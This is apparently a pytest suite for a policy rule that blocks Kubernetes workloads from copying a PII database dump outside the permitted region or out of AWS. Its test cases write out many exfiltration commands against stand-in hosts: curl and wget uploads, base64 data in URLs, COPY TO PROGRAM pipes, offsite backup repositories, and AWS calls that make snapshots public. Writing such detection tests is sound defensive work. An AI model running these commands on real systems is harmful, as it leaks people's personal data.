"""Shell scripts code runs send where their transfer commands say (reviewer issue #8, Kubernetes case 1).

A workload given the PII database (its host, unknown at preview) whose container `command` / `args` are a
shell script: `pg_dump ... | curl -T - https://...`, `rclone copy ... remote:`, `aws s3 cp - s3://...`. The
destination a transfer command names is a place the workload copies what it reads to: an upload's URL on
the internet is outside AWS, an `s3://` destination is the stack's bucket or the region the command names
(else untraceable), an rclone remote is what the workload's configuration defines it to be (else
untraceable). The baseline is a Job that dumps the database to its own volume; each test changes its script
(or the form it is written in) in one place. Ordinary commands that only download, or write locally, stay.
"""

from __future__ import annotations

import pytest

from tests.policies.baseline import Region, eu_region
from tests.policies.copies import mumbai, store
from tests.policies.policy_harness import UNKNOWN, Res, messages, violations

NO_PII = "no-pii-replication"
DUMP = "pg_dump -h $PGHOST -U app app"
LOCAL = f"{DUMP} > /backup/app.sql"
"""The baseline script: the dump stays on the Job's volume."""


def _job(
    region: Region,
    script: str | None = LOCAL,
    *,
    command: list[str] | None = None,
    env: dict[str, str] | None = None,
    kind: str = "kubernetes:batch/v1:Job",
    settings: Res | None = None,
) -> Res:
    """A Job given the PII database's host that runs `sh -c SCRIPT` (or an exec-form command line)."""
    variables = [{"name": "PGHOST", "value": UNKNOWN}]
    variables.extend({"name": k, "value": v} for k, v in (env or {}).items())
    container: dict[str, object] = {
        "name": "dump",
        "image": "example/pg-tools:17",
        "command": command if command is not None else ["/bin/sh", "-c"],
        "env": variables,
    }
    if script is not None:
        container["args"] = [script]
    pod: dict[str, object] = {"containers": [container], "restartPolicy": "Never"}
    if settings is not None:
        pod["volumes"] = [{"name": "rclone", "secret": {"secretName": "rclone-config"}}]
        container["volumeMounts"] = [{"name": "rclone", "mountPath": "/config/rclone"}]
    template = {"spec": pod}
    spec: dict[str, object] = {"template": template}
    if kind.endswith("CronJob"):
        spec = {"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": template}}}
    elif kind.endswith("Deployment"):
        spec = {
            "selector": {"matchLabels": {"app": "dump"}},
            "template": {**template, "metadata": {"labels": {"app": "dump"}}},
        }
    return Res(
        kind,
        "dump",
        {"metadata": {"name": "dump", "namespace": "app"}, "spec": spec},
        region.kubernetes,
        deps={"spec": [region.database]},
    )


def _blocked(resources: list[Res], job: Res) -> str:
    found = [d for d in violations(resources, NO_PII) if d.urn == job.urn]
    assert found, messages(violations(resources, NO_PII))
    return messages(found)


def _allowed(resources: list[Res], job: Res) -> None:
    found = [d for d in violations(resources, NO_PII) if d.urn == job.urn]
    assert found == [], messages(found)


def test_a_job_that_dumps_the_database_to_its_own_volume_stays() -> None:
    region = eu_region()
    job = _job(region)
    _allowed([*region.resources, job], job)


# Uploads over HTTP -----------------------------------------------------------------------------------------

UPLOADS = {
    "curl -T from a pipe": f"{DUMP} | curl -sS -T - https://uploads.partner.example/dumps/",
    "curl short options clustered": f"{DUMP} | gzip | curl -fsST - https://uploads.partner.example/d",
    "curl --data-binary": f"{DUMP} > /tmp/d.sql && curl --data-binary @/tmp/d.sql https://uploads.partner.example",
    "curl -X PUT": f"{DUMP} > /tmp/d.sql; curl -X PUT --upload-file /tmp/d.sql https://uploads.partner.example",
    "curl --url": f"{DUMP} | curl -T - --url https://uploads.partner.example/d",
    "curl to an address": f"{DUMP} | curl -T - http://203.0.113.10:8080/upload",
    "wget --post-file": f"{DUMP} > /tmp/d.sql; wget --post-file=/tmp/d.sql https://uploads.partner.example/",
    "httpie from a pipe": f"{DUMP} | http POST uploads.partner.example/dumps",
    "a script variable": f'URL=https://uploads.partner.example/d\n{DUMP} | curl -T - "$URL"',
    "exec wrapped": f"{DUMP} | exec timeout 600 curl -T - https://uploads.partner.example/d",
}


@pytest.mark.parametrize("script", UPLOADS.values(), ids=list(UPLOADS))
def test_a_job_that_uploads_the_dump_to_a_public_host_is_blocked(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    found = _blocked([*region.resources, job], job)
    assert "outside AWS" in found
    assert "partner.example" in found or "203.0.113.10" in found


def test_an_upload_in_the_exec_form_is_blocked() -> None:
    # `command: [curl, -T, /backup/app.sql, https://...]`: the words of the command line, not one script.
    region = eu_region()
    job = _job(region, None, command=["curl", "-T", "/backup/app.sql", "https://uploads.partner.example/d"])
    assert "uploads.partner.example" in _blocked([*region.resources, job], job)


def test_a_cron_job_and_a_deployment_are_judged_alike() -> None:
    for kind in ("kubernetes:batch/v1:CronJob", "kubernetes:apps/v1:Deployment"):
        region = eu_region()
        job = _job(region, UPLOADS["curl -T from a pipe"], kind=kind)
        assert "uploads.partner.example" in _blocked([*region.resources, job], job)


def test_an_upload_to_a_url_the_workloads_environment_defines_is_blocked() -> None:
    region = eu_region()
    job = _job(
        region, f'{DUMP} | curl -T - "$UPLOAD_URL"', env={"UPLOAD_URL": "https://uploads.partner.example/d"}
    )
    assert "uploads.partner.example" in _blocked([*region.resources, job], job)


def test_an_upload_to_a_url_nothing_defines_fails_closed() -> None:
    region = eu_region()
    job = _job(region, f'{DUMP} | curl -T - "$UPLOAD_URL"')
    found = _blocked([*region.resources, job], job)
    assert "$UPLOAD_URL" in found and "cannot read" in found


ORDINARY = {
    "a download piped into a shell": "curl -fsSL https://get.tool.example.com/install.sh | sh && " + LOCAL,
    "a download to a file": "wget -q https://releases.tool.example.com/v1/tool.tgz -O /tmp/t.tgz; " + LOCAL,
    "a health check": LOCAL + " && curl -fsS http://localhost:8080/healthz",
    "an upload to a cluster service": f"{DUMP} | curl -T - http://archiver.backup.svc.cluster.local:8080/d",
    "an s3 download": "aws s3 cp s3://pii-exports-eu/schema.sql /tmp/schema.sql && " + LOCAL,
    "an echo that mentions curl": "echo 'upload with curl -T later' && " + LOCAL,
}


@pytest.mark.parametrize("script", ORDINARY.values(), ids=list(ORDINARY))
def test_ordinary_commands_name_no_destination(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    _allowed([*region.resources, job], job)


# S3 through the AWS CLI and s3cmd --------------------------------------------------------------------------


def test_an_aws_cli_copy_into_another_region_is_blocked() -> None:
    region = eu_region()
    job = _job(region, f"{DUMP} | aws s3 cp - s3://dumps-archive/app.sql --region ap-south-1")
    assert "ap-south-1" in _blocked([*region.resources, job], job)


def test_an_aws_cli_copy_into_a_bucket_the_stack_does_not_declare_fails_closed() -> None:
    region = eu_region()
    job = _job(region, f"{DUMP} | aws s3 cp - s3://dumps/app.sql")
    found = _blocked([*region.resources, job], job)
    assert "s3://dumps" in found and "does not declare" in found


@pytest.mark.parametrize(
    "script",
    [
        f"{DUMP} | aws s3 cp - s3://dumps/app.sql --region eu-west-1",
        f"{DUMP} | aws --region=eu-west-1 s3 cp - s3://dumps/app.sql --sse aws:kms",
    ],
)
def test_an_aws_cli_copy_into_a_bucket_of_a_named_region_of_the_jurisdiction_stays(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    _allowed([*region.resources, job], job)


def test_the_workloads_aws_region_places_the_bucket() -> None:
    region = eu_region()
    job = _job(region, f"{DUMP} | aws s3 cp - s3://dumps/app.sql", env={"AWS_REGION": "us-east-1"})
    assert "us-east-1" in _blocked([*region.resources, job], job)


def test_an_aws_cli_copy_into_the_stacks_bucket_is_judged_as_that_bucket() -> None:
    region = eu_region()
    bucket = store(region, "aws:s3/bucketV2:BucketV2", "dumps", {"bucket": "dumps"})
    job = _job(region, f"{DUMP} | aws s3 cp - s3://dumps/app.sql")
    _allowed([*region.resources, bucket, job], job)


def test_an_s3api_put_through_an_endpoint_outside_aws_is_blocked() -> None:
    region = eu_region()
    job = _job(
        region,
        f"{DUMP} > /tmp/d.sql; aws s3api put-object --bucket dumps --key d.sql --body /tmp/d.sql "
        "--endpoint-url https://s3.wasabisys.com --region eu-west-1",
    )
    assert "s3.wasabisys.com" in _blocked([*region.resources, job], job)


def test_an_s3cmd_put_into_another_region_is_blocked() -> None:
    region = eu_region()
    job = _job(region, f"{DUMP} > /tmp/d.sql && s3cmd put /tmp/d.sql s3://dumps/ --region=us-west-2")
    assert "us-west-2" in _blocked([*region.resources, job], job)


def test_a_gsutil_copy_is_outside_aws() -> None:
    region = eu_region()
    job = _job(region, f"{DUMP} | gsutil cp - gs://dumps/app.sql")
    assert "Google Cloud Storage" in _blocked([*region.resources, job], job)


# rclone remotes ------------------------------------------------------------------------------------------


def _rclone_config(region: Region, text: str) -> Res:
    return Res(
        "kubernetes:core/v1:Secret",
        "rclone-config",
        {"metadata": {"name": "rclone-config", "namespace": "app"}, "stringData": {"rclone.conf": text}},
        region.kubernetes,
    )


RCLONE = f"{DUMP} > /tmp/d.sql && rclone copy /tmp/d.sql offsite:dumps"


def test_an_rclone_copy_to_a_remote_the_configuration_does_not_define_fails_closed() -> None:
    region = eu_region()
    job = _job(region, RCLONE)
    found = _blocked([*region.resources, job], job)
    assert "offsite" in found and "does not define" in found


def test_an_rclone_remote_on_another_providers_storage_is_outside_aws() -> None:
    region = eu_region()
    settings = _rclone_config(region, "[offsite]\ntype = dropbox\ntoken = {}\n")
    job = _job(region, RCLONE, settings=settings)
    assert "another provider's storage" in _blocked([*region.resources, settings, job], job)


def test_an_rclone_s3_remote_in_another_region_is_blocked() -> None:
    region = eu_region()
    job = _job(
        region,
        RCLONE,
        env={
            "RCLONE_CONFIG_OFFSITE_TYPE": "s3",
            "RCLONE_CONFIG_OFFSITE_PROVIDER": "AWS",
            "RCLONE_CONFIG_OFFSITE_REGION": "ap-south-1",
        },
    )
    assert "ap-south-1" in _blocked([*region.resources, job], job)


def test_an_rclone_s3_remote_in_the_stacks_region_stays() -> None:
    region = eu_region()
    settings = _rclone_config(
        region, "[offsite]\ntype = s3\nprovider = AWS\nregion = eu-west-1\nenv_auth = true\n"
    )
    job = _job(region, RCLONE, settings=settings)
    _allowed([*region.resources, settings, job], job)


def test_an_on_the_fly_rclone_remote_of_an_sftp_server_on_the_internet_is_blocked() -> None:
    region = eu_region()
    job = _job(region, f"{DUMP} | rclone rcat :sftp,host=files.partner.example,user=app:dumps/app.sql")
    assert "files.partner.example" in _blocked([*region.resources, job], job)


# A script a ConfigMap mounts is the same script --------------------------------------------------------


def test_a_mounted_script_that_uploads_the_dump_is_blocked() -> None:
    region = eu_region()
    script = Res(
        "kubernetes:core/v1:ConfigMap",
        "dump-script",
        {
            "metadata": {"name": "dump-script", "namespace": "app"},
            "data": {
                "dump.sh": f"#!/bin/sh\nset -eu\n{DUMP} \\\n  | curl -T - https://uploads.partner.example/d\n"
            },
        },
        region.kubernetes,
    )
    job = _job(region, None, command=["/bin/sh", "/scripts/dump.sh"])
    pod = job.props["spec"]["template"]["spec"]
    pod["volumes"] = [{"name": "scripts", "configMap": {"name": "dump-script"}}]
    assert "uploads.partner.example" in _blocked([*region.resources, script, job], job)


def test_a_multi_line_script_is_read_once_by_its_lines() -> None:
    region = eu_region()
    job = _job(region, f"set -eu\n{DUMP} \\\n  | curl -T - https://uploads.partner.example/d\necho done\n")
    found = _blocked([*region.resources, job], job)
    assert (
        "https://uploads.partner.example/d (" in found and "https://uploads.partner.example/d'" not in found
    )


@pytest.mark.parametrize(
    "script",
    [
        f"{DUMP} > /tmp/d.sql && aws s3 cp /tmp/d.sql --storage-class-unknown-flag s3://dumps/d.sql",
        f"{DUMP} > /tmp/d.sql && rclone copy /tmp/d.sql --some-new-flag offsite:dumps",
    ],
    ids=["aws", "rclone"],
)
def test_an_option_the_pack_does_not_know_does_not_hide_the_destination(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    found = _blocked([*region.resources, job], job)
    assert "s3://dumps" in found or "offsite" in found


def test_a_download_with_trailing_options_names_no_destination() -> None:
    region = eu_region()
    job = _job(
        region,
        "aws s3 cp s3://seed/schema.sql /tmp/s.sql --region eu-west-1 && "
        "rclone copy offsite:seed /data --transfers 4 && " + LOCAL,
    )
    _allowed([*region.resources, job], job)


# Forms the instances' user data reader knew (one reader of command lines since the reconcile merge) -------


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        (
            f"{DUMP} > /tmp/d.sql && git -C /tmp push https://github.com/acme/dumps.git",
            "github.com/acme/dumps",
        ),
        (f"{DUMP} > /tmp/d.sql && git push git@github.com:acme/dumps.git main", "github.com"),
        (
            'curl -fsS "https://collect.partner.example/?d=$(' + DUMP + ' | base64 -w0)"',
            "collect.partner.example",
        ),
        (
            f"{DUMP} > /tmp/d.sql && aws s3api put-object --bucket dumps --key d.sql --body /tmp/d.sql "
            "--endpoint-url https://s3.wasabisys.com",
            "s3.wasabisys.com",
        ),
        (
            f"{DUMP} > /tmp/d.sql && pwsh -c 'Invoke-RestMethod -Method Post -InFile /tmp/d.sql "
            "-Uri https://uploads.partner.example/d'",
            "uploads.partner.example",
        ),
    ],
    ids=["git push -C", "git push scp form", "data in the URL", "s3api endpoint outside", "powershell"],
)
def test_a_push_an_s3api_write_elsewhere_or_data_in_a_url_sends_the_dump_out(script: str, shown: str) -> None:
    region = eu_region()
    job = _job(region, script)
    found = _blocked([*region.resources, job], job)
    assert shown in found and "outside AWS" in found, found


def test_a_download_whose_path_names_a_version_variable_names_no_destination() -> None:
    region = eu_region()
    job = _job(
        region, "curl -fsSL https://releases.tool.example.com/$TOOL_VERSION/tool.tgz | tar xz && " + LOCAL
    )
    _allowed([*region.resources, job], job)


# Command lines another program runs (reviewer blind-k8s13 k08) ---------------------------------------------

COPY_OUT = (
    "\\copy (SELECT * FROM customers) TO PROGRAM 'gzip | curl -sS -T - https://ingest.partner.example/c'"
)
NESTED = {
    "psql \\copy to a program": f'psql -v ON_ERROR_STOP=1 -c "{COPY_OUT} WITH (FORMAT csv)"',
    "server-side COPY to a program": (
        "psql -c \"COPY customers TO PROGRAM 'curl -sS -T - https://ingest.partner.example/c'\""
    ),
    "a COPY whose program quotes a quote": (
        "psql -c \"COPY customers TO PROGRAM 'curl -H ''X-Key: k'' -T - https://ingest.partner.example/c'\""
    ),
    "psql \\o to a pipe": (
        "psql -c '\\o | curl -sS -T - https://ingest.partner.example/c' -c 'SELECT * FROM customers'"
    ),
    "su -c": f"su postgres -c '{DUMP} | curl -T - https://ingest.partner.example/c'",
    "runuser -u ... --": f"{DUMP} | runuser -u nobody -- curl -T - https://ingest.partner.example/c",
    "sudo -u": f"{DUMP} | sudo -u nobody curl -T - https://ingest.partner.example/c",
    "xargs with valued options": (
        "echo app | xargs -n 1 -P 2 sh -c '" + DUMP + ' "$0" | curl -T - https://ingest.partner.example/c\''
    ),
    "kubectl exec --": (
        "kubectl exec -n app db-0 -- sh -c '" + DUMP + " | curl -T - https://ingest.partner.example/c'"
    ),
}


@pytest.mark.parametrize("script", NESTED.values(), ids=list(NESTED))
def test_a_command_line_another_program_runs_is_read_as_one(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    found = _blocked([*region.resources, job], job)
    assert "ingest.partner.example" in found and "outside AWS" in found


def test_a_copy_to_a_program_in_the_exec_form_is_read() -> None:
    region = eu_region()
    job = _job(region, None, command=["psql", "--no-psqlrc", "-c", f"{COPY_OUT} WITH (FORMAT csv, HEADER)"])
    assert "ingest.partner.example" in _blocked([*region.resources, job], job)


def test_a_copy_to_a_program_in_a_heredoc_is_read() -> None:
    region = eu_region()
    job = _job(region, f"psql <<'SQL'\n{COPY_OUT} WITH (FORMAT csv)\nSQL\n")
    assert "ingest.partner.example" in _blocked([*region.resources, job], job)


@pytest.mark.parametrize(
    "script",
    [
        "psql -c \"\\copy (SELECT * FROM customers) TO PROGRAM 'gzip > /backup/customers.csv.gz'\"",
        "psql -c \"COPY customers TO PROGRAM 'aws s3 cp - s3://dumps/c.csv --region eu-west-1'\"",
        "su postgres -c 'pg_dump app > /backup/app.sql'",
    ],
    ids=["to a local file", "to a bucket of the region", "su writing locally"],
)
def test_a_nested_command_line_that_keeps_the_data_stays(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    _allowed([*region.resources, job], job)


# Backup tools that name a repository, not a URL (reviewer blind-k8s13 k07) ---------------------------------

RESTIC = f"{DUMP} | restic backup --stdin --stdin-filename app.sql"


@pytest.mark.parametrize(
    ("repository", "shown"),
    [
        ("gs:offsite-dumps:/postgres", "Google Cloud Storage"),
        ("b2:offsite-dumps:postgres", "Backblaze B2"),
        ("azure:dumps:/postgres", "Azure Blob Storage"),
        ("swift:dumps:/postgres", "OpenStack Swift"),
        ("s3:s3.ap-south-1.amazonaws.com/dumps/postgres", "ap-south-1"),
        ("s3:https://s3.wasabisys.com/dumps", "s3.wasabisys.com"),
        ("s3:s3.amazonaws.com/dumps", "region"),
        ("rest:https://backup.partner.example:8000/app", "backup.partner.example"),
        ("sftp:backup@files.partner.example:/srv/restic", "files.partner.example"),
    ],
)
def test_a_restic_repository_in_the_environment_is_where_the_backup_goes(repository: str, shown: str) -> None:
    region = eu_region()
    job = _job(region, RESTIC, env={"RESTIC_REPOSITORY": repository})
    found = _blocked([*region.resources, job], job)
    assert shown in found, found


@pytest.mark.parametrize(
    "script",
    [
        f"{DUMP} | restic -r gs:offsite-dumps:/postgres backup --stdin",
        f"{DUMP} | restic --repo=gs:offsite-dumps:/postgres backup --stdin",
        f"export RESTIC_REPOSITORY=gs:offsite-dumps:/pg\n{RESTIC}",
        f"{DUMP} > /tmp/d.sql && borg create ssh://borg@vault.partner.example/./repo::app-{{now}} /tmp/d.sql",
        f"{DUMP} > /tmp/d.sql && duplicity full /tmp gs://offsite-dumps/postgres",
        f"{DUMP} > /tmp/d.sql && duplicity /tmp b2://key@offsite-dumps/postgres",
        "kopia repository connect gcs --bucket offsite-dumps && " + f"{DUMP} | kopia snapshot create --stdin",
    ],
    ids=["restic -r", "restic --repo=", "restic variable", "borg", "duplicity gs", "duplicity b2", "kopia"],
)
def test_a_backup_repository_on_the_command_line_is_where_the_backup_goes(script: str) -> None:
    region = eu_region()
    job = _job(region, script)
    found = _blocked([*region.resources, job], job)
    assert "outside AWS" in found, found


def test_a_restic_repository_nothing_names_fails_closed() -> None:
    region = eu_region()
    job = _job(region, RESTIC)
    found = _blocked([*region.resources, job], job)
    assert "RESTIC_REPOSITORY" in found and "cannot read" in found


@pytest.mark.parametrize(
    ("script", "env"),
    [
        (RESTIC, {"RESTIC_REPOSITORY": "s3:s3.eu-west-1.amazonaws.com/dumps/postgres"}),
        (RESTIC, {"RESTIC_REPOSITORY": "/backup/restic"}),
        (RESTIC, {"RESTIC_REPOSITORY": "rest:http://restic.backup.svc.cluster.local:8000/app"}),
        (f"{DUMP} > /tmp/d.sql && borg create /backup/borg::app /tmp/d.sql", {}),
        (f"{DUMP} > /tmp/d.sql && duplicity /tmp boto3+s3://dumps/postgres --s3-region-name eu-west-1", {}),
        (
            "kopia repository connect s3 --bucket dumps --region eu-west-1 && "
            + f"{DUMP} | kopia snapshot create --stdin",
            {},
        ),
    ],
    ids=["restic s3 of the region", "restic local", "restic cluster", "borg", "duplicity", "kopia"],
)
def test_a_backup_repository_in_the_region_or_the_cluster_stays(script: str, env: dict[str, str]) -> None:
    region = eu_region()
    job = _job(region, script, env=env)
    _allowed([*region.resources, job], job)


# AWS CLI calls that share, copy or export (reviewer blind-k8s13 k06) ---------------------------------------

SNAPSHOT = "aws rds create-db-snapshot --db-instance-identifier pii-db --db-snapshot-identifier share-1"


@pytest.mark.parametrize(
    ("call", "shown"),
    [
        (
            "aws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 --attribute-name restore "
            "--values-to-add all",
            "every AWS account",
        ),
        (
            "aws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 --attribute-name restore "
            "--values-to-add 123456789012 999999999999",
            "999999999999",
        ),
        (
            "aws rds copy-db-snapshot --source-db-snapshot-identifier "
            "arn:aws:rds:eu-west-1:123456789012:snapshot:share-1 --target-db-snapshot-identifier dr-1 "
            "--region us-east-1",
            "us-east-1",
        ),
        (
            "aws ec2 copy-snapshot --source-snapshot-id snap-0123 --source-region eu-west-1 "
            "--destination-region ap-south-1",
            "ap-south-1",
        ),
        (
            "aws ec2 modify-snapshot-attribute --snapshot-id snap-0123 --attribute createVolumePermission "
            "--create-volume-permission 'Add=[{Group=all}]'",
            "every AWS account",
        ),
        (
            "aws kms create-grant --key-id alias/pii --grantee-principal arn:aws:iam::999999999999:role/x "
            "--operations Decrypt",
            "999999999999",
        ),
        (
            "aws secretsmanager replicate-secret-to-regions --secret-id app --add-replica-regions "
            "Region=us-east-1",
            "us-east-1",
        ),
    ],
    ids=[
        "public",
        "another account",
        "copy into another region",
        "ec2 copy",
        "ec2 public",
        "grant",
        "replica",
    ],
)
def test_an_aws_cli_call_that_shares_the_data_elsewhere_is_blocked(call: str, shown: str) -> None:
    region = eu_region()
    job = _job(region, f"{SNAPSHOT}\n{call}\n")
    found = _blocked([*region.resources, job], job)
    assert shown in found and "aws " in found, found


def test_an_aws_cli_export_into_the_stacks_bucket_in_another_region_is_blocked() -> None:
    """The bucket an export's `--s3-bucket-name` names is judged as an `s3://` destination: the stack's
    bucket of that name, in its own region (the export writes the data as it is)."""
    region = eu_region()
    bucket = Res("aws:s3/bucket:Bucket", "exports-abroad", {"bucket": "exports-abroad"}, mumbai())
    job = _job(
        region,
        f"{SNAPSHOT}\naws rds start-export-task --export-task-identifier e1 --source-arn "
        "arn:aws:rds:eu-west-1:123456789012:snapshot:share-1 --s3-bucket-name exports-abroad "
        "--iam-role-arn arn:aws:iam::123456789012:role/export --kms-key-id alias/pii\n",
    )
    found = _blocked([*region.resources, bucket, job], job)
    assert "ap-south-1" in found, found


def test_an_aws_cli_sharing_call_whose_destination_cannot_be_read_fails_closed() -> None:
    region = eu_region()
    job = _job(
        region,
        f"{SNAPSHOT}\naws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 "
        '--attribute-name restore --values-to-add "$PARTNER_ACCOUNT"\n',
    )
    found = _blocked([*region.resources, job], job)
    assert "$PARTNER_ACCOUNT" in found and "cannot read" in found


def test_the_workloads_aws_region_places_an_aws_cli_copy() -> None:
    region = eu_region()
    job = _job(
        region,
        "aws rds copy-db-snapshot --source-db-snapshot-identifier share-1 --target-db-snapshot-identifier d",
        env={"AWS_REGION": "us-east-1"},
    )
    assert "us-east-1" in _blocked([*region.resources, job], job)


@pytest.mark.parametrize(
    "call",
    [
        "aws rds copy-db-snapshot --source-db-snapshot-identifier share-1 --target-db-snapshot-identifier "
        "share-2 --region eu-west-1",
        "aws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 --attribute-name restore "
        "--values-to-add 123456789012",
        "aws rds describe-db-snapshots --db-snapshot-identifier share-1",
        "aws rds wait db-snapshot-available --db-snapshot-identifier share-1",
    ],
    ids=["in-region copy", "own account", "describe", "wait"],
)
def test_an_aws_cli_call_that_keeps_the_data_in_the_region_and_account_stays(call: str) -> None:
    region = eu_region()
    job = _job(region, f"{SNAPSHOT}\n{call}\n")
    _allowed([*region.resources, job], job)


# Command lines unknown at preview, computed from the store (reviewer blind-k8s13 k20) ----------------------

COMPUTED = "a script computed from outputs is unknown only at a first preview"


@pytest.mark.preview_only(COMPUTED)
@pytest.mark.parametrize(
    ("command", "args"),
    [
        (["/bin/bash", "-c", UNKNOWN], None),
        (["/bin/sh", "-c"], [UNKNOWN]),
        (["python3", "-c", UNKNOWN], None),
        (UNKNOWN, None),
        (["/bin/sh"], UNKNOWN),
    ],
    ids=["bash -c script", "sh -c in args", "python -c", "the whole command", "the whole args"],
)
def test_a_script_computed_from_the_store_fails_closed(command: object, args: object) -> None:
    region = eu_region()
    job = _job(region, None, command=command)  # type: ignore[arg-type]
    if args is not None:
        job.props["spec"]["template"]["spec"]["containers"][0]["args"] = args
    found = _blocked([*region.resources, job], job)
    assert "unknown at preview" in found and "pii-db" in found and "command line" in found, found


@pytest.mark.preview_only(COMPUTED)
def test_a_script_an_unknown_variable_holds_fails_closed() -> None:
    region = eu_region()
    job = _job(region, '"$(SCRIPT)"', command=["/bin/sh", "-c"])
    job.props["spec"]["template"]["spec"]["containers"][0]["env"].append({"name": "SCRIPT", "value": UNKNOWN})
    found = _blocked([*region.resources, job], job)
    assert "SCRIPT" in found and "unknown at preview" in found, found


@pytest.mark.preview_only(COMPUTED)
def test_an_argument_computed_from_the_store_is_only_its_address() -> None:
    # `pg_dump -h <the database's address>`: a single value, the store's host, not a script.
    region = eu_region()
    job = _job(region, None, command=["pg_dump", "-h", UNKNOWN, "-f", "/backup/app.sql", "app"])
    _allowed([*region.resources, job], job)


@pytest.mark.preview_only(COMPUTED)
def test_a_script_unknown_at_preview_computed_from_no_resident_store_stays() -> None:
    # The Job reads the database through a Secret it takes its variables from; its script is computed from
    # a bucket of internal data, not from the store.
    region = eu_region()
    tools = store(
        region, "aws:s3/bucketV2:BucketV2", "tools", {"bucket": "tools"}, {"data-classification": "internal"}
    )
    connection = Res(
        "kubernetes:core/v1:Secret",
        "db-conn",
        {"metadata": {"name": "db-conn", "namespace": "app"}, "stringData": {"PGHOST": UNKNOWN}},
        region.kubernetes,
        deps={"stringData": [region.database]},
    )
    job = _job(region, None, command=["/bin/sh", "-c", UNKNOWN])
    job.deps = {"spec": [tools]}
    container = job.props["spec"]["template"]["spec"]["containers"][0]
    container["env"] = []
    container["envFrom"] = [{"secretRef": {"name": "db-conn"}}]
    _allowed([*region.resources, tools, connection, job], job)
